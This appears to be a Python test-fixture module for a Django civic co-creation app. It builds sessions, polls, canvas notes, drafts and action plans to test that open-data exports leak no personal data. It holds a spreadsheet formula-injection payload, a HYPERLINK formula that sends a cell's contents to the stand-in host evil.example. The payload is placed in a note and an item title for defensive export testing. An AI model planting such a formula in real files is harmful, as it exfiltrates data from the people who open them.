"""Test data for the policy exports, built with the ORM (and the sessions, canvases and
voting services that make real workshop outputs), independent of the policy services.

``build_world`` makes a process of ``entity`` with one live session at "colaborar":
participants with recognisable names, a closed single-choice poll with ballots, a canvas
with notes (one typed as a formula), dots and a cluster, and a Q&A question. From it: a
working draft (items with note, cluster and poll sources, one removed item, one item
whose title is a formula), a published version frozen the way the drafts service
freezes them, an action plan with every OGP field filled, its published version, a
progress update and reasoned responses. ``PERSONAL`` lists every name and email of the
world, for the no-personal-data scans.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from datetime import date
from typing import Any

from django.db import transaction

from canvases import ops
from canvases.models import Canvas
from canvases.services import canvas_apply
from cocrea.accounts.models import User
from cocrea.policy.models import (
    ActionPlan,
    Commitment,
    ContributionResponse,
    Draft,
    DraftItem,
    DraftVersion,
    ItemSource,
    Milestone,
    PlanVersion,
    ProgressUpdate,
    ResponseStatus,
)
from cocrea.toolkit.models import Level, Lineamiento, Methodology, Pillar
from sessions import live
from sessions.models import LiveSession, Participant, Process, Question, QuestionStatus
from sessions.services import StageInput, process_create
from voting import services as voting
from voting.live import result_data
from voting.models import Poll

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"clic")'
PARTICIPANT_NAMES = ("Ana Pérez Quintero", "Beto Ramírez Ossa", "Carla Mosquera Riascos")
# Author keys (``p:12``, ``u:3``) must never leave in an open-data export.
AUTHOR_KEY = re.compile(r"(?<![A-Za-z0-9])[pu]:\d+")


@dataclass
class ExportWorld:
    process: Process
    session: LiveSession
    participants: list[Participant]
    poll: Poll
    canvas: Canvas
    draft: Draft
    items: list[DraftItem]  # [poll + note item, cluster item, written item, formula item]
    removed_item: DraftItem
    version: DraftVersion
    plan: ActionPlan
    commitment: Commitment
    plan_version: PlanVersion
    people: list[User]

    @property
    def personal(self) -> list[str]:
        """Every name and email of the world's people: none may appear in open data."""
        out = list(PARTICIPANT_NAMES)
        for user in self.people:
            out += [user.email, user.full_name]
        return [value for value in out if value]


def _apply(canvas: Canvas, op: dict[str, Any], actor: ops.Actor) -> None:
    with transaction.atomic():
        canvas_apply(canvas_id=canvas.pk, stream=canvas.activity.session.stream, actor=actor, op=op)


def _poll_snapshot(poll: Poll, ballots: int) -> dict[str, Any]:
    """A poll source's snapshot, as a promoted poll freezes it."""
    result = result_data(poll)
    labels = {o.key: o.label for o in poll.options.all()}
    return {
        "title": poll.title,
        "method": poll.method,
        "options": [{"key": o.key, "label": o.label} for o in poll.options.all()],
        "result": result,
        "winner_labels": [labels.get(k, k) for k in result.get("winners") or []],
        "ballots": ballots,
    }


def service_shaped_draft_snapshot(draft: Draft, number: int) -> dict[str, Any]:
    """The draft frozen the way the drafts service publishes a version: items grouped by
    lineamiento and pillar, sources with the session's title and id and the level's
    code. Built here by hand so these tests do not depend on that service."""
    groups: list[dict[str, Any]] = []
    items = (
        DraftItem.objects.filter(draft=draft, removed=False)
        .select_related("lineamiento", "pillar")
        .order_by("lineamiento__order", "pillar__order", "order", "pk")
    )
    for item in items:
        if not groups or groups[-1]["code"] != item.lineamiento.code:
            groups.append(
                {"code": item.lineamiento.code, "name": item.lineamiento.name, "pillars": []}
            )
        pillars = groups[-1]["pillars"]
        code = item.pillar.code if item.pillar_id else ""
        if not pillars or pillars[-1]["code"] != code:
            name = item.pillar.name if item.pillar_id else ""
            pillars.append({"code": code, "name": name, "items": []})
        pillars[-1]["items"].append(
            {
                "id": item.pk,
                "title": item.title,
                "text": item.text,
                "origin": item.origin,
                "status": item.status,
                "sources": [
                    {
                        "kind": s.kind,
                        "ref": s.ref,
                        "session": s.session.title if s.session_id else "",
                        "session_id": s.session_id,
                        "level": s.level.code if s.level_id else "",
                        "level_name": s.level.name if s.level_id else "",
                        "participants": s.participants,
                        "snapshot": s.snapshot,
                    }
                    for s in item.sources.all()
                ],
            }
        )
    return {
        "title": draft.title,
        "process": {"slug": draft.process.slug, "title": draft.process.title},
        "lineamientos": groups,
        "number": number,
    }


def service_shaped_plan_snapshot(plan: ActionPlan) -> dict[str, Any]:
    """The plan frozen the way the plans service publishes a version."""

    def iso(value: date | None) -> str | None:
        return value.isoformat() if value else None

    commitments = []
    for c in plan.commitments.order_by("number"):
        commitments.append(
            {
                "id": c.pk,
                "number": c.number,
                "title": c.title,
                "start": iso(c.start),
                "end": iso(c.end),
                "lead_agency": c.lead_agency,
                "problem": c.problem,
                "baseline": c.baseline,
                "objective": c.objective,
                "expected_results": c.expected_results,
                "how_it_helps": c.how_it_helps,
                "relevance": {
                    "transparency": c.relevance_transparency,
                    "participation": c.relevance_participation,
                    "accountability": c.relevance_accountability,
                    "innovation": c.relevance_innovation,
                },
                "other_actors": c.other_actors,
                "budget": c.budget,
                "development_plan": c.development_plan,
                "sdgs": list(c.sdgs),
                "completion": c.completion,
                "milestones": [
                    {
                        "id": m.pk,
                        "deliverable": m.deliverable,
                        "start": iso(m.start),
                        "end": iso(m.end),
                        "responsible": m.responsible,
                        "done": m.done,
                        "done_at": iso(m.done_at),
                    }
                    for m in c.milestones.all()
                ],
                "items": [
                    {
                        "id": i.pk,
                        "title": i.title,
                        "text": i.text,
                        "origin": i.origin,
                        "lineamiento": {"code": i.lineamiento.code, "name": i.lineamiento.name},
                        "pillar": {"code": i.pillar.code, "name": i.pillar.name}
                        if i.pillar
                        else None,
                        "sources": [
                            {
                                "kind": s.kind,
                                "ref": s.ref,
                                "session": {"id": s.session_id, "title": s.session.title}
                                if s.session
                                else None,
                                "level": {"code": s.level.code, "name": s.level.name}
                                if s.level
                                else None,
                                "participants": s.participants,
                                "snapshot": s.snapshot,
                            }
                            for s in i.sources.all()
                        ],
                    }
                    for i in c.items.all()
                ],
            }
        )
    return {
        "plan": {
            "id": plan.pk,
            "title": plan.title,
            "period_start": iso(plan.period_start),
            "period_end": iso(plan.period_end),
            "process": {"slug": plan.process.slug, "title": plan.process.title},
            "entity": plan.process.entity.name,
        },
        "commitments": commitments,
    }


def build_world(entity: Any, alice: User, bob: User) -> ExportWorld:
    colaborar = Level.objects.get(code="colaborar")
    process = process_create(
        entity=entity,
        title="Gobierno abierto en Buenaventura",
        primary_pillar=Pillar.objects.get(code="participacion"),
        stages=[StageInput(name="Cocreación", level=colaborar)],
        created_by=alice,
    )
    # Published documents belong to a running process: a draft process is its team's.
    process.status = "active"
    process.save(update_fields=["status"])
    session = live.session_create(
        stage=process.stages.get(), title="Taller de prioridades", created_by=alice
    )
    people = [
        live.participant_join(session=session, display_name=name, consent=True)
        for name in PARTICIPANT_NAMES
    ]

    # A closed single-choice poll: 2 votes for "a", 1 for "b".
    activity = live.activity_add(
        session=session,
        kind="poll",
        title="¿Qué priorizar?",
        poll_spec={
            "method": "single",
            "options": [
                {"key": "a", "label": "Datos abiertos de contratación"},
                {"key": "b", "label": "Presupuesto participativo"},
            ],
        },
    )
    poll = Poll.objects.get(activity=activity)
    voting.poll_open(poll=poll, actor=alice)
    for participant, choice in zip(people, ["a", "a", "b"], strict=True):
        voting.ballot_cast(poll=poll, voter_key=f"p:{participant.pk}", content=choice)
    voting.poll_close(poll=poll, actor=alice)
    poll.refresh_from_db()

    # A canvas with notes (one a formula), dots and a cluster.
    methodology = Methodology.objects.filter(zones__isnull=False).distinct().order_by("order")[0]
    zones = list(methodology.zones.order_by("order"))
    canvas_activity = live.activity_add(
        session=session, kind="canvas", title="Árbol del barrio", methodology=methodology
    )
    canvas = canvas_activity.canvas
    ana, beto = ops.Actor(f"p:{people[0].pk}"), ops.Actor(f"p:{people[1].pk}")
    for note_id, text, actor in [
        ("n1", "Basuras en el caño", ana),
        ("n2", FORMULA, beto),
        ("n3", "Faltan luminarias", ana),
    ]:
        z = zones[0]
        x = z.x + 10 + 180 * int(note_id[1])
        _apply(canvas, {"op": "create", "id": note_id, "text": text, "x": x, "y": z.y + 10}, actor)
    _apply(canvas, {"op": "cluster", "cluster": "c1", "name": "Residuos", "notes": ["n1"]}, ana)
    for note_id, actor in [("n1", ana), ("n1", beto), ("n3", beto)]:
        _apply(canvas, {"op": "dot", "note": note_id}, actor)
    canvas.refresh_from_db()

    qa = live.activity_add(session=session, kind="qa", title="Preguntas")
    Question.objects.create(
        activity=qa, participant=people[2], text="¿Cuándo publican?", status=QuestionStatus.APPROVED
    )

    datos, gobernanza = Lineamiento.objects.order_by("order")[:2]
    transparencia = Pillar.objects.get(code="transparencia")
    draft = Draft.objects.create(
        process=process, title="Lineamientos de Buenaventura", created_by=bob
    )
    first = DraftItem.objects.create(
        draft=draft,
        lineamiento=datos,
        pillar=transparencia,
        title="Publicar la contratación en datos abiertos",
        text="La alcaldía publicará cada contrato en datos.gov.co.",
        origin="poll",
        created_by=bob,
    )
    ItemSource.objects.create(
        item=first,
        kind="poll",
        ref=f"poll:{poll.pk}",
        session=session,
        level=colaborar,
        participants=3,
        snapshot=_poll_snapshot(poll, 3),
    )
    ItemSource.objects.create(
        item=first,
        kind="note",
        ref="note:1",
        session=session,
        level=colaborar,
        participants=2,
        # An author key a snapshot might carry: it must never be exported.
        snapshot={
            "text": "Basuras en el caño",
            "zone_label": "Causas",
            "author": f"p:{people[0].pk}",
        },
    )
    second = DraftItem.objects.create(
        draft=draft,
        lineamiento=datos,
        pillar=transparencia,
        title="Mapa de residuos del barrio",
        text="Un mapa abierto de los puntos críticos.",
        origin="cluster",
        order=1,
    )
    ItemSource.objects.create(
        item=second,
        kind="cluster",
        ref=f"cluster:{canvas.pk}:c1",
        session=session,
        level=colaborar,
        participants=2,
        snapshot={"name": "Residuos", "notes": ["Basuras en el caño"], "dots": 2},
    )
    written = DraftItem.objects.create(
        draft=draft,
        lineamiento=gobernanza,
        title="Mesa de gobernanza abierta",
        text="Una mesa trimestral con la sociedad civil.",
        origin="written",
    )
    formula = DraftItem.objects.create(
        draft=draft,
        lineamiento=gobernanza,
        title=FORMULA,
        text="-1 +2 @x",
        origin="written",
        order=1,
    )
    removed = DraftItem.objects.create(
        draft=draft, lineamiento=datos, title="Ítem retirado", origin="written", removed=True
    )
    version = DraftVersion.objects.create(
        draft=draft, number=1, snapshot=service_shaped_draft_snapshot(draft, 1), published_by=bob
    )
    draft.next_version = 2
    draft.save()

    plan = ActionPlan.objects.create(
        process=process,
        title="Plan de acción 2026-2027",
        period_start=date(2026, 1, 1),
        period_end=date(2027, 12, 31),
        created_by=bob,
    )
    commitment = Commitment.objects.create(
        plan=plan,
        number=1,
        title="Contratación abierta",
        start=date(2026, 2, 1),
        end=date(2027, 6, 30),
        lead_agency="Secretaría de Hacienda",
        problem="La ciudadanía no conoce los contratos.",
        baseline="0 contratos publicados en formato abierto.",
        objective="Publicar el 100 % de los contratos.",
        expected_results="Un portal con los contratos actualizados.",
        how_it_helps="Permite el control social del gasto.",
        relevance_transparency="Abre la información contractual.",
        relevance_participation="Veedurías revisan los contratos.",
        relevance_accountability="Informes trimestrales de avance.",
        relevance_innovation="Estándar OCDS.",
        other_actors={"government": ["Colombia Compra Eficiente"], "civil_society": ["Veeduría"]},
        budget="COP 120.000.000",
        development_plan="Plan de Desarrollo Distrital, línea 3",
        sdgs=[16, 17],
        completion="limited",
    )
    commitment.items.set([first])
    Milestone.objects.create(
        commitment=commitment,
        deliverable="Conjunto de datos de contratos publicado",
        start=date(2026, 2, 1),
        end=date(2026, 6, 30),
        responsible="Oficina TIC",
        done=True,
        done_at=date(2026, 6, 1),
    )
    Milestone.objects.create(
        commitment=commitment, deliverable="Tablero de seguimiento", order=1, responsible="TIC"
    )
    ProgressUpdate.objects.create(
        commitment=commitment, text="Primer conjunto publicado.", completion="limited", author=bob
    )
    plan_version = PlanVersion.objects.create(
        plan=plan, number=1, snapshot=service_shaped_plan_snapshot(plan), published_by=bob
    )
    ContributionResponse.objects.create(
        process=process,
        session=session,
        kind="note",
        ref="note:1",
        participant_key=f"p:{people[0].pk}",
        text="Basuras en el caño",
        status=ResponseStatus.INCORPORATED,
        item=second,
        reason="Se incorporó en el mapa de residuos.",
        updated_by=bob,
    )
    ContributionResponse.objects.create(
        process=process,
        kind="question",
        ref="question:9",
        participant_key=f"u:{alice.pk}",
        text="¿Cuándo publican?",
        status=ResponseStatus.PENDING,
    )
    return ExportWorld(
        process=process,
        session=session,
        participants=people,
        poll=poll,
        canvas=canvas,
        draft=draft,
        items=[first, second, written, formula],
        removed_item=removed,
        version=version,
        plan=plan,
        commitment=commitment,
        plan_version=plan_version,
        people=[alice, bob],
    )
